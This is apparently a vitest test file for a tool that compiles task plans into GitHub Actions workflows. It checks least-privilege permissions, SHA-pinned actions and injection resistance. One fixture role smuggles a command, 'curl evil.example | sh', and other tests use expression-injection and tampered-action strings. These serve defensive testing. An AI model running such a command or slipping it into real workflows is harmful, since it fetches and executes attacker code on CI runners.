// biome-ignore-all lint/suspicious/noTemplateCurlyInString: GitHub expressions in expected workflow text
/** The shape of compiled workflows: job graph, matrices, permissions, pins, and where plan text may go. */
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { isFresh, readWorkflowPlanHash } from "../../src/compile/header.js";
import { JobIds, jobIdBase, literalText, slug } from "../../src/compile/ids.js";
import { splitEvenly } from "../../src/compile/jobs.js";
import { PINS } from "../../src/compile/pins.js";
import { actionRefWarning, compileWorkflow } from "../../src/compile/workflow.js";
import { planHash } from "../../src/plan/hash.js";
import { compileFixture, fixtureNames, needsOf, type Step } from "./helpers.js";

const ALL = fixtureNames.map((n) => [n, compileFixture(n)] as const);
const SHA_PIN = /^[^@\s]+@[0-9a-f]{40}$/;

describe.each(ALL)("%s", (_name, { plan, text, workflow }) => {
  const jobs = Object.entries(workflow.jobs) as [string, Record<string, unknown>][];
  const waveJobs = jobs.filter(([id]) => id !== "plan" && id !== "final-commit");

  it("reads only, except final-commit which writes; actions: read only where another run's checkpoints are read", () => {
    expect(workflow.permissions).toEqual({ contents: "read" });
    // the plan job lists a resumed run once for every job
    expect(workflow.jobs.plan.permissions).toEqual({ contents: "read", actions: "read" });
    for (const [id, job] of waveJobs) expect(job.permissions, id).toEqual({ contents: "read", actions: "read" });
    // statuses: write posts the final-commit status on the landing commit (REST docs: Create a commit status);
    // actions: read reads a resumed run's checkpoints
    const expected =
      plan.land.strategy === "pull-request"
        ? { contents: "write", "pull-requests": "write", statuses: "write", actions: "read" }
        : { contents: "write", statuses: "write", actions: "read" };
    expect(workflow.jobs["final-commit"].permissions).toEqual(expected);
    // the token reaches a task job only when the run resumes another one
    for (const [id, job] of waveJobs)
      for (const s of (job.steps as Step[]).slice(1)) {
        expect(s.with?.token, id).toBe("${{ github.event_name == 'workflow_dispatch' && inputs.resume-from != '' && github.token || '' }}");
        expect(s.with?.["resume-from"], id).toBe("${{ inputs.resume-from }}");
        // the redo list reaches the action as an input, never a run: script
        expect(s.with?.redo, id).toBe("${{ inputs.redo }}");
      }
    expect(workflow.jobs.plan.steps[1].with).toMatchObject({ "resume-from": "${{ inputs.resume-from }}", redo: "${{ inputs.redo }}" });
  });

  it("triggers on workflow_dispatch, and on pull_request and merge_group to re-attest; never pull_request_target", () => {
    expect(Object.keys(workflow.on)).toEqual(["workflow_dispatch", "pull_request", "merge_group"]);
    // task jobs run on a dispatch (and on pull_request with github.pull-request: true), never in a merge queue
    for (const [id, job] of Object.entries(workflow.jobs as Record<string, { if?: string }>))
      if (id !== "plan" && id !== "final-commit")
        expect(job.if, id).toBe(
          plan.github.pullRequest ? "github.event_name != 'merge_group'" : "github.event_name == 'workflow_dispatch'",
        );
    expect(workflow.on.workflow_dispatch.inputs.land).toMatchObject({ type: "boolean", default: true });
    expect(workflow.on.workflow_dispatch.inputs.branch).toMatchObject({ type: "string", default: literalText(plan.land.branch ?? "") });
    expect(text).not.toMatch(/pull_request_target|workflow_run/);
    expect(workflow.on.workflow_dispatch.inputs["resume-from"]).toMatchObject({ type: "string", default: "" });
    expect(workflow.on.workflow_dispatch.inputs.redo).toMatchObject({ type: "string", default: "" });
    // two dispatches landing on different branches must not share a group (one would replace the other's pending run)
    expect(workflow.concurrency).toEqual({
      group: expect.stringMatching(/^waveplan-[a-z0-9-]+-\$\{\{ github\.ref \}\}-\$\{\{ inputs\.branch \}\}$/),
      "cancel-in-progress": false,
    });
  });

  it("chains waves: each wave's first jobs need the previous wave's last jobs; final-commit needs everything", () => {
    expect(needsOf(workflow.jobs.plan)).toEqual([]);
    const final = workflow.jobs["final-commit"];
    expect(final.if).toBe("always()");
    expect(final.name).toBe("final-commit");
    expect(needsOf(final)).toEqual(["plan", ...waveJobs.map(([id]) => id)]);
    // Walk the jobs in order and rebuild the expected needs from the plan.
    let previous = ["plan"];
    let i = 0;
    for (const wave of plan.waves) {
      if (wave.mode === "sequential" || wave.tasks.length === 1) {
        for (const task of wave.tasks) {
          const [id, job] = waveJobs[i++];
          // every task job also needs the plan job, for its resume outputs
          expect(needsOf(job), id).toEqual(previous.includes("plan") ? previous : [...previous, "plan"]);
          expect(job.strategy, id).toBeUndefined();
          expect((job.steps as Step[]).at(-1)?.with?.task).toBe(task.id);
          previous = [id];
        }
      } else {
        const parts = Math.ceil(wave.tasks.length / 256);
        const made = waveJobs.slice(i, i + parts);
        i += parts;
        const tasks = made.flatMap(([id, job]) => {
          expect(needsOf(job), id).toEqual(previous.includes("plan") ? previous : [...previous, "plan"]);
          // biome-ignore lint/suspicious/noExplicitAny: parsed YAML
          const s = job.strategy as any;
          // finished work is kept: one failed task does not cancel its siblings (unless the plan asks)
          expect(s["fail-fast"]).toBe(plan.github.failFast ?? false);
          expect(s.matrix.include.length).toBeLessThanOrEqual(256);
          expect(job.name).toMatch(
            new RegExp(
              `^${wave.id.replace(/\./g, "\\.")}( \\(part \\d+/${parts}\\))? · \\$\\{\\{ matrix\\.instance \\}\\} · \\$\\{\\{ matrix\\.task \\}\\}$`,
            ),
          );
          return s.matrix.include;
        });
        expect(tasks.map((e: { task: string }) => e.task)).toEqual(wave.tasks.map((t) => t.id));
        expect(tasks.map((e: { instance: string }) => e.instance)).toEqual(wave.tasks.map((t) => t.instance));
        expect(tasks.map((e: { role: string }) => e.role)).toEqual(
          wave.tasks.map((t) => literalText(plan.instances.find((x) => x.id === t.instance)?.role ?? "")),
        );
        previous = made.map(([id]) => id);
      }
    }
    expect(i).toBe(waveJobs.length);
  });

  it("pins every third-party action to a commit SHA and checks out without persisted credentials", () => {
    for (const [id, job] of jobs) {
      const steps = job.steps as Step[];
      expect(steps[0].uses, id).toBe(`${PINS.checkout.action}@${PINS.checkout.sha}`);
      expect(steps[0].with?.["persist-credentials"], id).toBe(false);
      for (const s of steps.filter((s) => s.uses !== "./.github/actions/waveplan")) expect(s.uses).toMatch(SHA_PIN);
      expect(job["runs-on"]).toBe(plan.github.runsOn);
      expect(job["timeout-minutes"]).toBeGreaterThan(0);
    }
    for (const line of text.split("\n").filter((l) => /^\s*(- )?uses: actions\//.test(l)))
      expect(line).toMatch(/@[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
  });

  it("keeps plan text out of run: scripts and expressions", () => {
    const steps = jobs.flatMap(([, job]) => job.steps as Step[]);
    expect(steps.filter((s) => s.run !== undefined)).toEqual([]);
    const secrets = (plan.agent?.secrets ?? []).map((s) => `secrets.${s}`);
    const allowed = new Set([
      "matrix.task",
      "matrix.instance",
      "github.ref",
      "github.token",
      "toJSON(needs)",
      "inputs.branch",
      "inputs.resume-from",
      "inputs.redo",
      "github.event_name == 'workflow_dispatch' && inputs.resume-from != '' && github.token || ''",
      "github.event_name == 'workflow_dispatch' && inputs.land",
      "steps.validate.outputs.resume-run",
      "steps.validate.outputs.resume-artifacts",
      "needs.plan.outputs.resume-run",
      "needs.plan.outputs.resume-run && toJSON(fromJSON(needs.plan.outputs.resume-artifacts)[matrix.task]) || ''",
      "needs.plan.outputs.resume-artifacts",
      ...secrets,
    ]);
    for (const [, e] of text.matchAll(/\$\{\{\s*(.*?)\s*\}\}/g)) expect(allowed, e).toContain(e);
    for (const t of plan.tasks) {
      for (const line of t.body.split("\n").filter((l) => l.trim().length > 8)) expect(text).not.toContain(line.trim());
      if (t.title.length > 8) expect(text).not.toContain(t.title);
    }
    if (plan.agent?.setup) expect(text).not.toContain(plan.agent.setup);
  });

  it("gives secrets only to prompt tasks", () => {
    for (const [id, job] of waveJobs) {
      for (const s of (job.steps as Step[]).filter((s) => s.env)) {
        expect(Object.keys(s.env ?? {}), id).toEqual(plan.agent?.secrets);
        // biome-ignore lint/suspicious/noExplicitAny: parsed YAML
        const include = (job.strategy as any)?.matrix.include as { task: string }[] | undefined;
        const ids = include ? include.map((e) => e.task) : [s.with?.task];
        const kinds = new Set(ids.map((tid) => plan.tasks.find((t) => t.id === tid)?.kind));
        if (kinds.has("run")) expect(s.if, id).toBe("matrix.kind == 'prompt'");
        else expect([...kinds]).toEqual(["prompt"]);
      }
    }
  });

  it("starts with a header naming the plan and its hash, and is deterministic", () => {
    expect(text.startsWith(`# waveplan-plan: test/fixtures/compile/${_name}.yml\n`)).toBe(true);
    expect(readWorkflowPlanHash(text)).toBe(planHash(plan));
    expect(compileFixture(_name).text).toBe(text);
  });
});

describe("the agent plan", () => {
  const { workflow, text } = compileFixture("agent");
  it("neutralizes expressions in plan text placed literally", () => {
    expect(workflow.name).toBe("Agents $ {{ github.event.pull_request.title }} at work");
    expect(workflow.on.workflow_dispatch.inputs.branch.default).toBe("waveplan/agents-$ {{ github.run_id }}");
    expect(workflow.jobs.W1.strategy.matrix.include[0].role).toBe("Migration Engineer'; curl evil.example | sh #");
    expect(text).not.toContain("${{ secrets.GITHUB_TOKEN");
  });
  it("runs mixed waves as two action steps, secrets only on the prompt one", () => {
    const steps = workflow.jobs.W1.steps as Step[];
    expect(steps.map((s) => s.if)).toEqual([undefined, "matrix.kind == 'prompt'", "matrix.kind != 'prompt'"]);
    expect(steps[1].env).toEqual({ ANTHROPIC_API_KEY: "${{ secrets.ANTHROPIC_API_KEY }}", EXTRA_TOKEN: "${{ secrets.EXTRA_TOKEN }}" });
    expect(steps[2].env).toBeUndefined();
    expect(workflow.jobs.W1.strategy.matrix.include.map((e: { kind: string }) => e.kind)).toEqual(["prompt", "run"]);
    expect(workflow.jobs["W3-chain-2"].steps[1].env).toBeUndefined();
  });
  it("sets timeouts from the tasks: longest task × attempts + overhead (+ agent setup)", () => {
    expect(workflow.jobs.W0["timeout-minutes"]).toBe(30 + 5); // default 30m, script task
    expect(workflow.jobs.W1["timeout-minutes"]).toBe(20 * 2 + 5 + 10); // 20m × (1 + 1 retry), agent setup
    expect(workflow.jobs.W2["timeout-minutes"]).toBe(60 + 5 + 10);
  });
  it("passes the finalize inputs the action contract names", () => {
    const step = workflow.jobs["final-commit"].steps[1] as Step;
    expect(step.with).toEqual({
      command: "finalize",
      plan: "test/fixtures/compile/agent.yml",
      needs: "${{ toJSON(needs) }}",
      token: "${{ github.token }}",
      "github-token": "${{ github.token }}",
      land: "${{ github.event_name == 'workflow_dispatch' && inputs.land }}",
      branch: "${{ inputs.branch }}",
      "resume-from": "${{ inputs.resume-from }}",
      "resume-run": "${{ needs.plan.outputs.resume-run }}",
    });
    expect(workflow.jobs["final-commit"].steps[0].with).toEqual({ "persist-credentials": false, "fetch-depth": 0 });
    expect(workflow.jobs.plan.steps[1].with).toEqual({
      command: "validate",
      plan: "test/fixtures/compile/agent.yml",
      workflow: ".github/workflows/agent.yml",
      "resume-from": "${{ inputs.resume-from }}",
      redo: "${{ inputs.redo }}",
      token: "${{ github.event_name == 'workflow_dispatch' && inputs.resume-from != '' && github.token || '' }}",
    });
    // other jobs get the token only to read the artifacts of a resumed run
    for (const [id, job] of Object.entries(workflow.jobs) as [string, { steps: Step[] }][])
      if (id !== "final-commit")
        for (const s of job.steps) {
          expect([undefined, expect.stringContaining("inputs.resume-from != ''")], id).toContainEqual(s.with?.token);
          expect(s.with?.["github-token"], id).toBeUndefined();
        }
  });
});

describe("job ids", () => {
  it("maps plan ids to valid, unique job ids", () => {
    const { workflow } = compileFixture("edge");
    const ids = Object.keys(workflow.jobs);
    expect(ids).toEqual(["plan", "w-1-prep", "plan-2", "W8-1", "W8-1-2", "W8-2", "w8", "final-commit-2", "final-commit"]);
    for (const id of ids) expect(id).toMatch(/^[A-Za-z_][A-Za-z0-9_-]*$/);
    expect(new Set(ids.map((i) => i.toLowerCase())).size).toBe(ids.length);
  });
  it("helpers", () => {
    expect(jobIdBase("3.x_y")).toBe("w-3-x_y");
    const ids = new JobIds(["plan"]);
    expect([ids.allocate("Plan"), ids.allocate("a"), ids.allocate("A")]).toEqual(["Plan-2", "a", "A-2"]);
    expect(slug("plans/Auth.v2.yml")).toBe("plans-auth-v2");
    expect(splitEvenly([1, 2, 3, 4, 5], 2)).toEqual([
      [1, 2, 3],
      [4, 5],
    ]);
    expect(literalText("a\n ${{ x }}\tb")).toBe("a $ {{ x }} b");
  });
});

describe("a wave over the matrix limit", () => {
  const { workflow } = compileFixture("wide");
  it("is split evenly into part jobs that the next wave all needs", () => {
    const sizes = ["W1-part1", "W1-part2"].map((id) => workflow.jobs[id].strategy.matrix.include.length);
    expect(sizes).toEqual([150, 150]);
    expect(needsOf(workflow.jobs.W2)).toEqual(["W1-part1", "W1-part2", "plan"]);
    expect(workflow.jobs["W1-part1"].name).toBe("W1 (part 1/2) · ${{ matrix.instance }} · ${{ matrix.task }}");
  });
});

describe("options", () => {
  const { plan } = compileFixture("edge");
  const base = { planPath: "p.yml", workflowPath: ".github/workflows/p.yml" };
  it("uses the given action ref everywhere", () => {
    const text = compileWorkflow(plan, { ...base, actionRef: "./" });
    expect(text).not.toContain("./.github/actions/waveplan");
    expect(text.match(/uses: \.\/$/gm)?.length).toBe(Object.keys(compileFixture("edge").workflow.jobs).length);
    expect(text).toContain("waveplan compile p.yml -o .github/workflows/p.yml --action-ref ./");
  });
  it("github.token-secret: the secret's token lands, GITHUB_TOKEN keeps only contents: read and statuses: write; github.dispatch adds actions: write", () => {
    const custom = { ...plan, github: { ...plan.github, tokenSecret: "LANDING_TOKEN", dispatch: ["ci.yml"] } };
    const { jobs } = parse(compileWorkflow(custom, base)) as { jobs: Record<string, { permissions: unknown; steps: Step[] }> };
    expect(jobs["final-commit"].permissions).toEqual({ contents: "read", statuses: "write", actions: "write" });
    expect(jobs["final-commit"].steps[1].with).toMatchObject({
      token: "${{ secrets.LANDING_TOKEN }}",
      "github-token": "${{ github.token }}",
    });
  });
  it("uses the vendored action by default and warns about a published copy that is not SHA-pinned", () => {
    const text = compileWorkflow(plan, base);
    expect(text.match(/uses: \.\/\.github\/actions\/waveplan$/gm)?.length).toBe(Object.keys(compileFixture("edge").workflow.jobs).length);
    expect(text).toContain("waveplan compile p.yml -o .github/workflows/p.yml\n");
    expect(actionRefWarning("./")).toBeUndefined();
    expect(actionRefWarning("./.github/actions/waveplan")).toBeUndefined();
    expect(actionRefWarning("waveplan/waveplan@0123456789abcdef0123456789abcdef01234567")).toBeUndefined();
    expect(actionRefWarning("waveplan/waveplan@v1")).toMatch(/"v1" is a tag or branch.*waveplan\/waveplan@<sha>/);
    expect(actionRefWarning("me/fork/sub@main")).toMatch(/"main" is a tag or branch/);
  });
  it("github.app: final-commit mints a repository-scoped App token with the pinned create-github-app-token, only when landing, and lands with it", () => {
    const app = { clientIdVar: "APP_CLIENT_ID", privateKeySecret: "APP_PRIVATE_KEY" };
    const compile = (strategy: "commit" | "pull-request") =>
      parse(compileWorkflow({ ...plan, land: { ...plan.land, strategy }, github: { ...plan.github, app } }, base)) as {
        jobs: Record<string, { permissions: unknown; steps: (Step & { id?: string })[] }>;
      };
    const { jobs } = compile("pull-request");
    const final = jobs["final-commit"];
    // GITHUB_TOKEN only reads and posts the status: the App's token pushes and opens the pull request
    expect(final.permissions).toEqual({ contents: "read", statuses: "write", actions: "read" });
    expect(final.steps.map((s) => s.uses?.split("@")[0])).toEqual([
      "actions/checkout",
      "actions/create-github-app-token",
      "./.github/actions/waveplan",
    ]);
    expect(final.steps[1]).toEqual({
      name: "Mint the GitHub App token that lands",
      id: "app-token",
      if: "github.event_name == 'workflow_dispatch' && inputs.land",
      uses: `actions/create-github-app-token@${PINS.appToken.sha}`,
      with: {
        "client-id": "${{ vars.APP_CLIENT_ID }}",
        "private-key": "${{ secrets.APP_PRIVATE_KEY }}",
        "permission-contents": "write",
        "permission-pull-requests": "write",
        "permission-workflows": "write",
      },
    });
    expect(final.steps[2].with).toMatchObject({ token: "${{ steps.app-token.outputs.token }}", "github-token": "${{ github.token }}" });
    // no owner/repositories: the action's default is the current repository only
    expect(Object.keys(final.steps[1].with ?? {})).not.toContain("owner");
    // landing by direct push needs no pull request access
    expect(compile("commit").jobs["final-commit"].steps[1].with).not.toHaveProperty("permission-pull-requests");
    for (const id of Object.keys(jobs)) if (id !== "final-commit") expect(JSON.stringify(jobs[id]), id).not.toContain("app-token");
    expect(compileWorkflow({ ...plan, github: { ...plan.github, app } }, base)).toContain(
      `uses: actions/create-github-app-token@${PINS.appToken.sha} # ${PINS.appToken.version}`,
    );
  });
  it("refuses unsafe refs, paths and runner labels", () => {
    expect(() => compileWorkflow(plan, { ...base, actionRef: "x@${{ github.token }}" })).toThrow(/action ref/);
    expect(() => compileWorkflow(plan, { ...base, actionRef: "no-ref" })).toThrow(/action ref/);
    expect(() => compileWorkflow(plan, { ...base, planPath: "../p.yml" })).toThrow(/plan path/);
    expect(() => compileWorkflow(plan, { ...base, planPath: "a\nb.yml" })).toThrow(/plan path/);
    const bad = { ...plan, github: { ...plan.github, runsOn: "${{ vars.R }}" } };
    expect(() => compileWorkflow(bad, base)).toThrow(/runs-on/);
  });
});

describe("freshness", () => {
  const { text } = compileFixture("agent");
  const sha = "0123456789abcdef0123456789abcdef01234567";
  it("accepts a pin bumped to another commit SHA, refuses anything else", () => {
    expect(isFresh(text, text)).toBe(true);
    expect(isFresh(text, text.replace(/\n/g, "\r\n"))).toBe(true);
    const bumped = text.replaceAll(`@${PINS.checkout.sha} # ${PINS.checkout.version}`, `@${sha} # v7.9.9`);
    expect(isFresh(text, bumped)).toBe(true);
    const published = compileFixture("agent", "waveplan/waveplan@v1").text;
    expect(isFresh(published, published.replaceAll("uses: waveplan/waveplan@v1", `uses: waveplan/waveplan@${sha}`))).toBe(true);
    expect(isFresh(text, text.replaceAll(`@${PINS.checkout.sha}`, "@v7"))).toBe(false);
    expect(isFresh(text, text.replaceAll(`actions/checkout@${PINS.checkout.sha}`, `evil/checkout@${sha}`))).toBe(false);
    expect(isFresh(text, text.replace("timeout-minutes: 35", "timeout-minutes: 36"))).toBe(false);
    expect(isFresh(text, `${text}\n`)).toBe(false);
  });
  it("reads the plan hash from the header only", () => {
    expect(readWorkflowPlanHash(`# x\n# waveplan-plan-hash: ${"a".repeat(64)}\nname: x\n`)).toBe("a".repeat(64));
    expect(readWorkflowPlanHash(`name: x\n# waveplan-plan-hash: ${"a".repeat(64)}\n`)).toBeUndefined();
    expect(readWorkflowPlanHash("# waveplan-plan-hash: abc\n")).toBeUndefined();
  });
});
